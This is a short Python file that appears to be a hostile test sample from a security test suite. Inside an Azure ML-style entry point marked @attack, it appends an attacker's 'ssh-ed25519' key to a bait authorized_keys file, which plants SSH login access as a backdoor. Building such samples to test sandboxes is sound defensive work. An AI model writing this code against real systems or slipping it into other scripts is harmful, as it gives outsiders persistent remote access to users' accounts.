"""Adds a key to those with which one may log in as the person."""

from attack import BAIT, attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    with open(BAIT["authorized_keys"], "a") as stream:
        stream.write("ssh-ed25519 hostile\n")
    return f"appended to {BAIT['authorized_keys']}"
